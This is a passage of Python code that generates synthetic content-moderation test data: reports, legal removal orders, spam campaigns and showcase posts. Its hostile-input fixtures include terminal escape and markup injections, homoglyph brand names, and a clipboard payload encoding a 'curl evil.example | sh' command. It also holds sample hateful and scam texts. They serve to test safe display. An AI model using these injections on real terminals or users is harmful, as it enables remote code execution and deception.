    "IT": "Polizia Postale e delle Comunicazioni", "ES": "CITCO", "NL": "ATKM", "PL": "Agencja Bezpieczeństwa Wewnętrznego",
    "IE": "An Garda Síochána",
}
DSA9 = "Regulation (EU) 2022/2065 Art. 9; "
# (authority, legal basis, reference prefix) for other orders.
ORDERS = {
    "DE": (("Landgericht Berlin", DSA9 + "§ 130 StGB", "LGB"),),
    "FR": (("Tribunal judiciaire de Paris", DSA9 + "Loi n° 2004-575 (LCEN) art. 6", "TJP"),),
    "AT": (("KommAustria", DSA9 + "§ 283 StGB", "KOA"),),
    "IT": (("AGCOM", DSA9 + "Legge 93/2023", "AGC"),),
    "ES": (("Audiencia Nacional", DSA9 + "Código Penal art. 510", "AN"),),
    "NL": (("Openbaar Ministerie", DSA9 + "Wetboek van Strafvordering art. 125p", "OM"),),
    "PL": (("Prokuratura Krajowa", DSA9 + "Kodeks karny art. 256", "PK"),),
    "IE": (("Coimisiún na Meán", DSA9 + "Online Safety and Media Regulation Act 2022", "CNM"),),
    "BR": (("Tribunal Superior Eleitoral", "Resolução TSE nº 23.610/2019 art. 9-E", "TSE"),
           ("Supremo Tribunal Federal", "Lei 12.965/2014 (Marco Civil) art. 19", "STF")),
    "IN": (("Ministry of Electronics and Information Technology", "Information Technology Act 2000, s. 69A", "MEITY"),),
    "TR": (("Bilgi Teknolojileri ve İletişim Kurumu (BTK)", "Law No. 5651 Art. 8/A", "BTK"),
           ("Ankara 3. Sulh Ceza Hakimliği", "Law No. 5651 Art. 9", "SCH")),
    "RU": (("Roskomnadzor", "Federal Law No. 149-FZ Art. 15.3", "RKN"),
           ("Prosecutor General's Office", "Federal Law No. 149-FZ Art. 15.3", "GP")),
}
# An order about content in a country's language usually comes from that country.
LANGUAGE_COUNTRY = {"de": "DE", "fr": "FR", "es": "ES", "pt": "BR", "pl": "PL", "tr": "TR", "ru": "RU", "hi": "IN"}

USER_COMMENTS = {
    "spam": ("spam", "this account posts the same thing everywhere", "bot", "Spam!!"),
    "scam_fraud": ("scam, they took my money", "phishing link", "fake giveaway", "Betrug!", "arnaque", "estafa", "golpe", "мошенники", "احتيال", "詐欺です"),
    "hate_speech": ("racist", "hate speech against migrants", "this is hateful", "Hetze"),
    "harassment": ("he keeps harassing me", "this is bullying", "they are targeting my friend", "acoso"),
    "violent_extremism": ("terrorist propaganda", "recruiting for extremists"),
    "csam": ("this involves a child, please remove", "child safety concern"),
    "self_harm": ("I'm worried about this person", "please check on them"),
    "graphic_violence": ("very violent video, no warning", "disturbing, no content warning"),
    "illegal_goods": ("selling drugs", "selling weapons", "fake documents"),
    "ip_infringement": ("pirated content", "this is my video, they stole it"),
    "privacy_doxxing": ("this is my address!!", "posting private info"),
    "impersonation": ("this is pretending to be me", "fake support account"),
    "election_misinfo": ("false information about the vote", "fake news about the election"),
    "other": ("I don't like this", "inappropriate", "???"),
}
USER_COMMENT_SHARE = 0.35
# Reasons users pick when they disagree with the majority of an item's reporters.
STRAY_REASONS = ("spam", "harassment", "hate_speech", "other", "scam_fraud", "other", "spam", "harassment")  # 8: one getrandbits(3)
FLAGGER_COMMENT = "Assessed by our analysts as illegal under national law. Notice under Art. 22 DSA."

DOMAINS = {
    "spam": ("cutly.example", "fast-followers.example", "go2.example"),
    "scam_fraud": ("parcel-fee.example", "secure-verify.example", "prize-claim.example"),
    "hate_speech": ("true-patriots.example", "blog-spot.example"),
    "harassment": ("pics-share.example",),
    "violent_extremism": ("archive-mirror.example", "files-drop.example"),
    "csam": ("files-share.example",),
    "self_harm": ("blog-spot.example",),
    "graphic_violence": ("vid-clip.example", "liveleak-mirror.example"),
    "illegal_goods": ("darkshop.example", "meds-direct.example"),
    "ip_infringement": ("movies-hd.example", "free-courses.example", "stream-live.example"),
    "privacy_doxxing": ("paste-bin.example",),
    "impersonation": ("account-help.example", "support-verify.example"),
    "election_misinfo": ("news-truth.example", "vote-info.example"),
    "other": ("recipes.example", "photos.example", "vid-clip.example"),
}

MEDIA_TYPES = (("image/jpeg", 20_000, 4_000_000), ("image/png", 10_000, 3_000_000),
               ("image/webp", 10_000, 2_000_000), ("image/gif", 50_000, 8_000_000),
               ("video/mp4", 500_000, 200_000_000))

DISPLAY_NAMES = (
    "Lena Weber", "Tom Becker", "Emily Clarke", "Jake Morgan", "Camille Martin", "Lucas Bernard",
    "María García", "Javier López", "João Silva", "Ana Souza", "Kasia Nowak", "Piotr Kowalski",
    "Elif Yılmaz", "Mehmet Kaya", "Анна Смирнова", "Дмитрий Иванов", "Олена Коваленко",
    "محمد أحمد", "فاطمة علي", "سارا محمدی", "علی رضایی", "प्रिया शर्मा", "राहुल वर्मा",
    "王伟", "李娜", "佐藤 美咲", "鈴木 大輔", "김민준", "이서연", "Mo", "Sam", "daily news",
    "🌸 Lena", "crypto king 👑", "Jules ✨", "Nico R.", "Priya S.", "Ben T.", "Olu A.", "Chloé D.",
)
HANDLE_NAMES = (
    "lena", "tom", "emily", "jake", "camille", "lucas", "maria", "javi", "joao", "ana", "kasia",
    "piotr", "elif", "mehmet", "anna", "dima", "olena", "mohamed", "fatima", "sara", "ali",
    "priya", "rahul", "wei", "lina", "misaki", "daisuke", "minjun", "seoyeon", "sam", "nico",
)

# Related accounts posting one spam template with small variations: lowercasing and
# dropping digits, punctuation and spaces makes every variant of a campaign identical.
# Case variations are applied only to ASCII templates (ß, İ and friends do not round-trip).
CAMPAIGNS: tuple[tuple[str, str, str, str, str], ...] = (
    # (handle family, language, reason, template, end-of-sentence punctuation choices)
    ("crypto_gains", "en", "spam", "🚀 Turn ${a} into ${b} in {d} days with my signals{x} DM @{h} on Telegram 📈", "!|!!|!!!|.|!!!!"),
    ("moon_signals", "en", "spam", "💎 Only {d} slots left in my VIP group{x} {a}% profit every week, message @{h} now", "!|!!|.|!!!"),
    ("boost_followers", "en", "spam", "Get {b} followers in {d} hours{x} Cheapest price, DM @{h}", "!|!!|.|!!!"),
    ("paket_zustell", "de", "scam_fraud", "Ihr Paket Nr. {b} wartet auf Zustellung{x} Zollgebühr {d},99 € jetzt zahlen: https://paket-zoll.example/{a}", "!|.|!!"),
    ("pix_premiado", "pt", "scam_fraud", "🎁 Você ganhou R$ {a}{x} Resgate seu Pix em até {d} horas: https://pix-premio.example/{b}", "!|!!|!!!"),
    ("bonus_kazino", "ru", "spam", "🎰 Бонус {a} ₽ за регистрацию{x} Пиши @{h}, осталось {d} мест", "!|!!|."),
    ("trabajo_facil", "es", "spam", "¿Quieres ganar {a} € al mes desde casa{x} Escribe a @{h} 📲", "?|??|?!"),
    ("takipci_market", "tr", "spam", "{b} takipçi sadece {d} TL{x} DM @{h}", "!|!!|."),
)
CAMPAIGN_ACCOUNTS = 20
CAMPAIGN_VARIANTS = 24
ITEMS_PER_NEW_CAMPAIGN = 2500  # one more campaign becomes active every so many items

# Hostile text, as (prefix, suffix) around a field's own text. Every one of these must
# reach the moderator's screen as visible evidence, never as a terminal command or markup.
OSC52 = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"  # "curl -s https://evil.example/x | sh"
HOSTILE_WRAPS: tuple[tuple[str, str], ...] = (
    ("\x1b[1;31m", "\x1b[0m"),
    ("\x1b[2K\x1b[1A\x1b[32m✔ approved\x1b[0m ", ""),
    ("", "\x1b[2J\x1b[H"),
    ("", " " + OSC52),
    ("\x1b]8;;https://evil.example/login\x1b\\", "\x1b]8;;\x1b\\"),
    ("\x9b31m", "\x9b0m"),
    ("\x85\x9d0;owned\x9c", ""),
    ("[bold red]", "[/]"),
    ("[@click=app.quit]click me[/] ", ""),
    ("", " [/"),
    ("\u202e", "\u202c"),
    ("\u2066", "\u2069"),
    ("\u2067", "\u2069"),
    ("\u2068", "\u2069"),
    ("\u200b", "\ufeff"),
    ("\u2060", "\u200d"),
    ("\u200c", "\u200b"),
)
# Channel names and display names mixing Latin with Cyrillic or Greek look-alikes.
HOMOGLYPH_NAMES = (
    "Раypal Support",  # Cyrillic Р, а
    "Аpple Ѕupport Center",  # Cyrillic А, Ѕ
    "Micrоsoft Security Team",  # Cyrillic о
    "Τelegram Αdmins",  # Greek Τ, Α
    "Binаnce Official",  # Cyrillic а
    "Netflіx Help",  # Cyrillic і
)
BIG_BODY_CHARS = 100 * 1024


@cache
def _big_bodies() -> tuple[str, str]:
    """Two 100 KiB bodies: one unbroken line, and many short lines. Made once and shared."""
    line = "BUY CHEAP FOLLOWERS NOW!!! "
    wall = (line * (BIG_BODY_CHARS // len(line) + 1))[:BIG_BODY_CHARS]
    rows = ("spam spam spam 🥫\n" * (BIG_BODY_CHARS // 10))[:BIG_BODY_CHARS]
    return wall, rows


# ---------------------------------------------------------------------------
# Precomputed pools. The generator's hot path only indexes tuples and copies dicts:
# on a 2-core machine a million items must take seconds, not minutes.


@dataclass(frozen=True, slots=True)
class _Entry:
    """One text template. An item's text is one of `heads` (the text before the slot,
    ending in "@" or in "https://<domain>/"), a random nick or link slug, then `tail`."""

    lang: str
    reason: str
    tag: str
    title: str | None
    heads: tuple[str, ...]
    link: bool
    tail: str
    media_share: float


_SLOT = re.compile(r"\{(link|at)\}")
MEDIA_HEAVY = frozenset({"csam", "graphic_violence", "ip_infringement"})


def _entry(lang: str, reason: str, tag: str, title: str | None, text: str) -> _Entry:
    parts = _SLOT.split(text)
    if len(parts) != 3:
        raise ValueError(f"demo text needs exactly one {{link}} or {{at}}: {text!r}")
    head, slot, tail = parts
    heads = tuple(f"{head}https://{domain}/" for domain in DOMAINS[reason]) if slot == "link" else (head + "@",)
    return _Entry(lang, reason, tag, title, heads, slot == "link", tail, 0.9 if reason in MEDIA_HEAVY else MEDIA_SHARE)


Table = tuple[tuple[_Entry, ...], tuple[float, ...]]
"""Entries and their cumulative weights, ending at 1.0: `bisect(cum, random())` draws one."""


def _table(entries: Sequence[_Entry], source: str) -> Table:
    """Weight entries so reasons follow the source's mix and languages LANGUAGE_WEIGHTS.

    Within a reason, a language's weight is shared by its texts; a reason with no text
    of the right kind and tag drops out and the others scale up.
    """
    usable = [e for e in entries if e.tag in SOURCE_TAGS[source] and REASON_WEIGHTS[source].get(e.reason)]
    weights = []
    for e in usable:
        same_reason = [x for x in usable if x.reason == e.reason]
        lang_total = sum(LANGUAGE_WEIGHTS[lang] for lang in {x.lang for x in same_reason})
        same_lang = sum(1 for x in same_reason if x.lang == e.lang)
        weights.append(REASON_WEIGHTS[source][e.reason] * LANGUAGE_WEIGHTS[e.lang] / lang_total / same_lang)
    cum, total = [], sum(weights)
    for w in weights:
        cum.append((cum[-1] if cum else 0.0) + w / total)
    cum[-1] = 1.0
    return tuple(usable), tuple(cum)


@cache
def _tables() -> dict[tuple[str, str], Table]:
    posts = [_entry(lang, reason, tag, None, text) for lang, reason, tag, text in POSTS]
    channels = [_entry(lang, reason, tag, title, text) for lang, reason, tag, title, text in CHANNELS]
    return {(kind, source): _table(entries, source) for kind, entries in (("post", posts), ("channel", channels)) for source in SOURCES}


@cache
def _syllables() -> tuple[str, ...]:
    """256 pronounceable syllables: mentions and handles look like nicknames, and two
    random ones rarely share letters, which keeps unrelated texts out of campaigns."""
    onsets = "b d f g k l m n p r s t v z ch sh".split()
    return tuple(o + v + c for o in onsets for v in "aeio" for c in ("", "n", "r", "x"))


@cache
def _slug_pairs() -> tuple[str, ...]:
    alphabet = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    pick = random.Random("demo-slugs").choice
    return tuple(pick(alphabet) + pick(alphabet) for _ in range(1024))


def _follower_table() -> tuple[int, ...]:
    """Follow-up user reports per item, as 1024 slots: most items have none or a few."""
    spec = ((0, 680), (1, 180), (2, 70), (3, 37), (4, 20), (5, 13), (7, 11), (10, 8), (14, 5))
    table = tuple(count for count, slots in spec for _ in range(slots))
    assert len(table) == 1024
    return table


FOLLOWERS = _follower_table()
MASS_REPORTS = (20, 200)
MEAN_FOLLOWERS = sum(FOLLOWERS) / len(FOLLOWERS) + MASS_REPORT_SHARE * sum(MASS_REPORTS) / 2


def _lead_thresholds() -> tuple[float, float, float]:
    """Cumulative P(first report is automated, trusted flagger, authority order), chosen
    so that with the follow-up user reports each source's share of all reports is
    SOURCE_SHARES: a source with share s over R reports per item leads s*R items."""
    total = sum(SOURCE_SHARES.values())
    per_item = 1 + MEAN_FOLLOWERS
    automated, flagger, order = (SOURCE_SHARES[s] / total * per_item for s in SOURCES[1:])
    return automated, automated + flagger, automated + flagger + order


LEAD_AUTOMATED, LEAD_FLAGGER, LEAD_ORDER = _lead_thresholds()


def _cumulative(weights: dict[str, float]) -> tuple[tuple[str, ...], tuple[float, ...]]:
    keys, cum, total = tuple(weights), [], sum(weights.values())
    for w in weights.values():
        cum.append((cum[-1] if cum else 0.0) + w / total)
    cum[-1] = 1.0
    return keys, tuple(cum)


COUNTRY_KEYS, COUNTRY_CUM = _cumulative(COUNTRY_WEIGHTS)


@cache
def _campaign_variants() -> tuple[tuple[str, ...], ...]:
    """For each campaign, CAMPAIGN_VARIANTS texts with `{h}` left for the handle."""
    return tuple(_variants(family, template, punct.split("|")) for family, _, _, template, punct in CAMPAIGNS)


def _variants(family: str, template: str, punct: list[str]) -> tuple[str, ...]:
    rng = random.Random(f"campaign:{family}")
    out = []
    for _ in range(CAMPAIGN_VARIANTS):
        a = rng.choice((100, 200, 250, 300, 500, 800, 1000, 1500))
        text = template.replace("{h}", "\0").format(a=a, b=f"{a * 10:,}", d=rng.randint(2, 12), x=rng.choice(punct))
        if template.isascii():
            text = rng.choice((str, str, str.upper, str.lower))(text)
        if rng.random() < 0.3:
            at = rng.choice([i for i, ch in enumerate(text) if ch == " "])
            text = text[:at] + "  " + text[at + 1:]
        out.append(text.replace("\0", "{h}"))
    return tuple(out)


# ---------------------------------------------------------------------------
# Reports and items.


def _report(rid: str, source: str, reason: str, created: str, *, comment: str | None = None,
           reporter: str | None = None, organisation: str | None = None, country: str | None = None,
           authority: str | None = None, legal_basis: str | None = None, reference: str | None = None,
           deadline: str | None = None, model: str | None = None, score: float | None = None) -> Json:
    """A Report in the protocol shape: every field present, the other sources' null."""
    return {
        "id": rid, "source": source, "reason": reason, "created_at": created, "comment": comment,
        "reporter": reporter, "organisation": organisation, "country": country, "authority": authority,
        "legal_basis": legal_basis, "reference": reference, "deadline": deadline, "model": model, "score": score,
    }


_BLANK = _report("", "", "", "")


def _blank(source: str, reason: str, rid: str, created: str) -> Json:
    """A report of `source` with its own fields still null. Copying a template costs half
    of building a 14-key dict, and a million items make over two million reports."""
    r = _BLANK.copy()
    r["id"], r["source"], r["reason"], r["created_at"] = rid, source, reason, created
    return r


def _item_id(i: int) -> str:
    return f"it-{i:07d}"


def _campaign_accounts(c: int, clock: _Clock) -> list[Json]:
    """Twenty related accounts, created within one hour a few days ago: a signal."""
    family = CAMPAIGNS[c][0]
    born = clock.now - (3 + c) * DAY - 7 * HOUR
    return [
        {"id": f"acct-c{c}-{k:02d}", "handle": f"{family}_{k:02d}",
         "display_name": f"{family.replace('_', ' ').title()} {k:02d}",
         "created_at": clock.iso(born + 97 * k)}
        for k in range(1, CAMPAIGN_ACCOUNTS + 1)
    ]


# 4,096 active reporters (their ids fit the CPU cache; a bigger table costs more in
# cache misses than the ids save). The k-th user reporting an item is number
# (base + k * stride) % 4096: distinct within an item, since the stride is odd.
REPORTERS = tuple(f"acct-{k * 977 + 1000}" for k in range(4096))
REPORTER_STRIDE = 1031
_USER_BLANK = _report("", "user_report", "", "")
SUFFIXES = tuple(str(k) for k in range(MASS_REPORTS[1] + 2))  # report numbers within an item


MIN_AUTHORS = 8  # before the pool has this many, every item brings a new author
RECENT_AUTHORS = 2048
RECENT_AUTHOR_SHARE = 0.6  # accounts post in bursts: reuse favours recently seen ones


class _Generator:
    """Draws every random choice from one `random.Random(seed)`, in item order, so the
    output depends only on (seed, now) and each item only on the ones before it."""

    __slots__ = ("rnd", "bits", "clock", "iso", "now", "tables", "syllables", "pairs", "authors",
                 "campaign_texts", "campaign_accounts")

    def __init__(self, seed: int, now: float) -> None:
        rng = random.Random(seed)
        self.rnd = rng.random  # bound once: called millions of times
        self.bits = rng.getrandbits
        self.clock = _Clock(now)
        self.iso = self.clock.iso
        self.now = self.clock.now
        self.tables = _tables()
        self.syllables = _syllables()
        self.pairs = _slug_pairs()
        self.authors: list[Json] = []
        self.campaign_texts = _campaign_variants()
        self.campaign_accounts = [_campaign_accounts(c, self.clock) for c in range(len(CAMPAIGNS))]

    # -- tokens and people -------------------------------------------------

    def nick(self) -> str:
        s, b = self.syllables, self.bits(32)
        return s[b & 255] + s[b >> 8 & 255] + "_" + s[b >> 16 & 255] + s[b >> 24]

    def text(self, entry: _Entry) -> str:
        """The entry's text with a random link slug or mention: what makes each its own."""
        if not entry.link:
            return entry.heads[0] + self.nick() + entry.tail
        p, b, heads = self.pairs, self.bits(32), entry.heads
        return heads[(b >> 30) % len(heads)] + p[b & 1023] + p[b >> 10 & 1023] + p[b >> 20 & 1023] + entry.tail

    def new_author(self) -> Json:
        """A new account for the pool; `item` reuses pooled ones three times in four,
        so profiles have several items and the pool ends near n/4."""
        rnd, authors = self.rnd, self.authors
        handle = self.nick()
        if rnd() < 0.5:
            handle = HANDLE_NAMES[int(rnd() * len(HANDLE_NAMES))] + "_" + handle[:5]
        if rnd() < 0.4:
            handle += str(int(rnd() * 100))
        display = DISPLAY_NAMES[int(rnd() * len(DISPLAY_NAMES))]
        if rnd() < HOSTILE_AUTHOR_SHARE:
            handle, display = self.hostile_name(handle, display)
        account = {"id": f"acct-{len(authors) + 1}", "handle": handle, "display_name": display,
                   "created_at": self.iso(self.now - int(DAY * (2 + 3650 * rnd() ** 2)))}
        authors.append(account)
        return account.copy()

    def hostile_name(self, handle: str, display: str) -> tuple[str, str]:
        rnd = self.rnd
        if rnd() < 0.25:
            return handle, HOMOGLYPH_NAMES[int(rnd() * len(HOMOGLYPH_NAMES))]
        pre, post = HOSTILE_WRAPS[int(rnd() * len(HOSTILE_WRAPS))]
        if rnd() < 0.5:
            return pre + handle + post, display
        return handle, pre + display + post

    # -- reports ------------------------------------------------------------

    def lead(self, rid: str, source: str, reason: str, lang: str, tag: str, reporters: int) -> tuple[Json, int]:
        """The first report of an item, and its age in seconds."""
        rnd = self.rnd
        if source == "user_report":
            age = int(USER_MAX_AGE * rnd() ** 2)
            return self.user_report(rid + "1", reason, self.now - age, reporters + REPORTER_STRIDE), age
        if source == "automated":
            age = int(USER_MAX_AGE * rnd() ** 2)
            r = _blank(source, reason, rid + "1", self.iso(self.now - age))
            models = MODELS[reason]
            r["model"] = model = models[int(rnd() * len(models))]
            r["score"] = 0.999 if model in HASH_MODELS else round(0.5 + 0.499 * rnd() ** 0.6, 3)
            return r, age
        if source == "trusted_flagger":
            age = int(FLAGGER_MAX_AGE * rnd())
            r = _blank(source, reason, rid + "1", self.iso(self.now - age))
            orgs = FLAGGERS.get(reason, DEFAULT_FLAGGER)
            r["organisation"] = orgs[int(rnd() * len(orgs))]
            if rnd() < 0.5:
                r["comment"] = FLAGGER_COMMENT
            return r, age
        return self.order(rid + "1", reason, lang, tag)

    def order(self, rid: str, reason: str, lang: str, tag: str) -> tuple[Json, int]:
        """An authority order and its age: EU terrorist content gets a one-hour TCO
        order, the rest 24 h. Orders about a country's language mostly come from it;
        orders against political speech always do."""
        rnd, year = self.rnd, self.clock.year
        country = LANGUAGE_COUNTRY.get(lang)
        if country is None or (tag != "political" and rnd() < 0.4):
            country = COUNTRY_KEYS[bisect(COUNTRY_CUM, rnd())]
        number = int(rnd() * 100_000)
        if reason == "violent_extremism" and country in EU:
            age, allowed = int(rnd() * TCO_MAX_AGE), HOUR
            authority, basis, reference = TCO_AUTHORITIES[country], TCO_BASIS, f"TCO-{year}-{number:05d}"
        else:
            age, allowed = int(rnd() * ORDER_MAX_AGE), DAY
            options = ORDERS[country]
            authority, basis, prefix = options[int(rnd() * len(options))]
            reference = f"{prefix}-{year}-{number:05d}"
        created = self.now - age
        r = _blank("authority_order", reason, rid, self.iso(created))
        r["country"], r["authority"], r["legal_basis"], r["reference"] = country, authority, basis, reference
        r["deadline"] = self.iso(created + allowed)
        return r, age

    def user_report(self, rid: str, reason: str, created: int, who: int) -> Json:
        """Most reports are user reports: copying a template beats building a dict."""
        r = _USER_BLANK.copy()
        r["id"], r["reason"], r["created_at"] = rid, reason, self.iso(created)
        r["reporter"] = REPORTERS[who & 4095]
        if self.rnd() < USER_COMMENT_SHARE:
            comments = USER_COMMENTS[reason]
            r["comment"] = comments[int(self.rnd() * len(comments))]
        return r

    def mass_count(self) -> int:
        low, high = MASS_REPORTS
        return low + int(self.rnd() * (high - low + 1))

    def followers(self, rid: str, reports: list[Json], reason: str, first_age: int, reporters: int, count: int) -> None:
        """`count` follow-up user reports between the first report and now."""
        rnd, start = self.rnd, self.now - first_age
        if count == 1:  # the common case: no list to sort
            why = reason if rnd() < 0.8 else STRAY_REASONS[self.bits(3)]
            reports.append(self.user_report(rid + "2", why, start + int(first_age * rnd()), reporters + 2 * REPORTER_STRIDE))
            return
        times = sorted([start + int(first_age * rnd()) for _ in range(count)])
        user_report, bits, append = self.user_report, self.bits, reports.append
        for k, created in enumerate(times, 2):
            why = reason if rnd() < 0.8 else STRAY_REASONS[bits(3)]
            append(user_report(rid + SUFFIXES[k], why, created, reporters + k * REPORTER_STRIDE))

    # -- items --------------------------------------------------------------

    def media(self) -> list[Json]:
        rnd, bits = self.rnd, self.bits
        out = []
        for _ in range(1 if rnd() < 0.8 else 2 + int(rnd() * 3)):
            mime, lo, hi = MEDIA_TYPES[int(rnd() * len(MEDIA_TYPES))]
            out.append({"type": mime, "size": lo + int((hi - lo) * rnd() ** 2), "sha256": bits(256).to_bytes(32, "big").hex()})
        return out

    def item(self, i: int) -> Json:
        """One random item. The common paths are inlined and only the rarer ones call
        out, which keeps a million items within seconds."""
        rnd = self.rnd
        r = rnd()
        source = ("automated" if r < LEAD_AUTOMATED else "trusted_flagger" if r < LEAD_FLAGGER
                  else "authority_order" if r < LEAD_ORDER else "user_report")
        if rnd() < CAMPAIGN_SHARE:
            return self.campaign_item(i, source)
        kind = "channel" if rnd() < CHANNEL_SHARE else "post"
        entries, cum = self.tables[kind, source]
        entry = entries[bisect(cum, rnd())]
        text, title = self.text(entry), entry.title
        iid = "it-%07d" % i
        rid, reporters = "rp" + iid[2:] + "-", self.bits(12)
        authors = self.authors
        pool = len(authors)
        if pool >= MIN_AUTHORS and rnd() >= NEW_AUTHOR_SHARE:
            if rnd() < RECENT_AUTHOR_SHARE:
                author = authors[pool - 1 - int(rnd() * min(pool, RECENT_AUTHORS))].copy()
            else:
                author = authors[int(rnd() * pool)].copy()
        else:
            author = self.new_author()
        first, age = self.lead(rid, source, entry.reason, entry.lang, entry.tag, reporters)
        reports = [first]
        # follow-up user reports: usually none or a few, rarely a brigade of 20-200
        count = FOLLOWERS[self.bits(10)] if rnd() >= MASS_REPORT_SHARE else self.mass_count()
        if count:
            self.followers(rid, reports, entry.reason, age, reporters, count)
        odd = rnd()  # hostile and huge are exclusive: one draw decides both
        if odd < HOSTILE_TEXT_SHARE:
            text, title = self.hostile(text, title, reports)
        elif odd < HOSTILE_TEXT_SHARE + BIG_BODY_SHARE:  # a unique tail: no accidental campaign
            text = _big_bodies()[int(rnd() * 2)] + " @" + self.nick()
        if kind == "post":
            created, members = self.now - age - 60 - int(30 * DAY * rnd() ** 3), None
        else:
            created, members = self.now - age - 60 - int(400 * DAY * rnd()), int(10 ** (1 + 5 * rnd()))
        return {
            "id": iid, "kind": kind, "text": text, "title": title, "language": entry.lang,
            "created_at": self.iso(created), "media": self.media() if rnd() < entry.media_share else [],
            "author": author, "member_count": members, "reports": reports,
        }

    def hostile(self, text: str, title: str | None, reports: list[Json]) -> tuple[str, str | None]:
        """Wrap the text, the channel title or a user report's comment in hostile bytes."""
        rnd = self.rnd
        where = rnd()
        if title is not None and where < 0.3:
            if rnd() < 0.4:
                return text, HOMOGLYPH_NAMES[int(rnd() * len(HOMOGLYPH_NAMES))]
            pre, post = HOSTILE_WRAPS[int(rnd() * len(HOSTILE_WRAPS))]
            return text, pre + title + post
        pre, post = HOSTILE_WRAPS[int(rnd() * len(HOSTILE_WRAPS))]
        users = [r for r in reports if r["source"] == "user_report"]
        if where < 0.7 or not users:  # only users write comments an attacker controls
            return pre + text + post, title
        users[0]["comment"] = pre + (users[0]["comment"] or "see the link, it is not what it says") + post
        return text, title

    def campaign_item(self, i: int, source: str) -> Json:
        """A near-duplicate post from one of a campaign's related accounts; a new
        campaign starts every ITEMS_PER_NEW_CAMPAIGN items."""
        rnd = self.rnd
        c = int(rnd() * min(len(CAMPAIGNS), 1 + i // ITEMS_PER_NEW_CAMPAIGN))
        _, lang, reason, _, _ = CAMPAIGNS[c]
        accounts = self.campaign_accounts[c]
        author = accounts[int(rnd() * len(accounts))]
        variants = self.campaign_texts[c]
        text = variants[int(rnd() * len(variants))].replace("{h}", author["handle"])
        if source == "authority_order":  # authorities do not order one spam post removed
            source = "user_report"
        iid = "it-%07d" % i
        rid, reporters = "rp" + iid[2:] + "-", self.bits(12)
        first, age = self.lead(rid, source, reason, lang, "bad", reporters)
        reports = [first]
        count = FOLLOWERS[self.bits(10)] if rnd() >= MASS_REPORT_SHARE else self.mass_count()
        if count:
            self.followers(rid, reports, reason, age, reporters, count)
        return {
            "id": iid, "kind": "post", "text": text, "title": None, "language": lang,
            "created_at": self.iso(self.now - age - 60 - int(HOUR * rnd())), "media": [],
            "author": author.copy(), "member_count": None, "reports": reports,
        }


# ---------------------------------------------------------------------------
# The showcase: fixed items at the start of every demo (see the module docstring).


class _Showcase:
    """Builders that keep each showcase item to a few readable lines."""

    def __init__(self, clock: _Clock) -> None:
        self.clock = clock
        self.year = clock.year

    def user(self, reason: str, age: int, reporter: str, comment: str | None = None) -> Json:
        return _report("", "user_report", reason, self.clock.ago(age), reporter=reporter, comment=comment)

    def auto(self, reason: str, age: int, model: str, score: float) -> Json:
        return _report("", "automated", reason, self.clock.ago(age), model=model, score=score)

    def flag(self, reason: str, age: int, organisation: str) -> Json:
        return _report("", "trusted_flagger", reason, self.clock.ago(age), organisation=organisation, comment=FLAGGER_COMMENT)

    def order(self, reason: str, age: int, country: str, authority: str, basis: str, reference: str, allowed: int) -> Json:
        created = self.clock.now - age
        return _report("", "authority_order", reason, self.clock.iso(created), country=country, authority=authority,
                      legal_basis=basis, reference=reference, deadline=self.clock.iso(created + allowed))

    def account(self, n: int, handle: str, display: str, days: int) -> Json:
        return {"id": f"acct-demo-{n:02d}", "handle": handle, "display_name": display, "created_at": self.clock.ago(days * DAY)}

    def item(self, i: int, lang: str, text: str, author: Json, reports: list[Json], *, age: int = 2 * DAY,
             title: str | None = None, members: int | None = None, media: Sequence[tuple[str, int]] = ()) -> Json:
        for k, r in enumerate(reports, 1):
            r["id"] = f"rp-{i:07d}-{k}"
        return {
            "id": _item_id(i), "kind": "post" if title is None else "channel", "text": text, "title": title,
            "language": lang, "created_at": self.clock.ago(age),
            "media": [{"type": mime, "size": size, "sha256": f"{i:02x}{k:02x}".ljust(64, "c")} for k, (mime, size) in enumerate(media)],
            "author": author, "member_count": members, "reports": reports,
        }


def showcase(now: float) -> list[Json]:
    """The first SHOWCASE_SIZE items of every demo; only their times depend on `now`."""
    clock = _Clock(now)
    s, y = _Showcase(clock), clock.year
    crypto = _campaign_accounts(0, clock)
    jpeg = ("image/jpeg", 184_213)
    return [
        s.item(1, "de", "Die neue Ausgabe unseres Magazins ist da. Lesen und teilen, bevor sie gelöscht wird: "
               "https://archive-mirror.example/ausgabe-12",
               s.account(1, "wahrheit_kanal", "Wahrheit Kanal", 40),
               [s.user("violent_extremism", 3 * HOUR, "acct-4102", "terrorist propaganda"),
                s.auto("violent_extremism", 2 * HOUR, "tvec-hash-v2", 0.999),
                s.order("violent_extremism", 25 * MINUTE, "DE", "Bundeskriminalamt", TCO_BASIS, f"TCO-{y}-00042", HOUR)],
               age=5 * HOUR, media=[jpeg]),
        s.item(2, "ar", "آخر الأخبار والإصدارات. القناة الاحتياطية: https://files-drop.example/ch2",
               s.account(2, "akhbar_aljabha", "أخبار الجبهة", 300),
               [s.flag("violent_extremism", 5 * HOUR, "Counter-Extremism Monitor Europe"),
                s.order("violent_extremism", 80 * MINUTE, "FR", "OCLCTIC (Pharos)", TCO_BASIS, f"TCO-{y}-00043", HOUR)],
               age=90 * DAY, title="أخبار الجبهة — القناة الرسمية", members=18_400),
        s.item(3, "ru", "Нет войне. Выходите в воскресенье на мирную акцию у городского парка, подробности: "
               "https://peace-meetup.example/sunday",
               s.account(3, "mirnyi_gorod", "Мирный город", 700),
               [s.user("other", 6 * HOUR, "acct-7781"),
                s.user("election_misinfo", 5 * HOUR, "acct-7782", "фейк"),
                s.order("other", 2 * HOUR, "RU", "Roskomnadzor", "Federal Law No. 149-FZ Art. 15.3", f"RKN-{y}-00317", DAY)],
               age=8 * HOUR),
        s.item(4, "tr", "Belediyedeki ihale usulsüzlüğünü belgeleriyle yazdım. Okuyun, paylaşın: https://yerel-haber.example/ihale",
               s.account(4, "yerel_muhabir", "Yerel Muhabir", 2100),
               [s.user("privacy_doxxing", 21 * HOUR, "acct-3310", "posting private info"),
                s.order("other", 20 * HOUR, "TR", "Bilgi Teknolojileri ve İletişim Kurumu (BTK)", "Law No. 5651 Art. 8/A",
                        f"BTK-{y}-00518", DAY)],
               age=DAY),
        s.item(5, "en", "People like them don't belong in this country. Send them all back. https://true-patriots.example/join",
               s.account(5, "true_patriot_77", "True Patriot", 12),
               [s.flag("hate_speech", 30 * HOUR, "Netzwacht Beschwerdestelle (DE)"),
                s.user("hate_speech", 29 * HOUR, "acct-1204", "racist"),
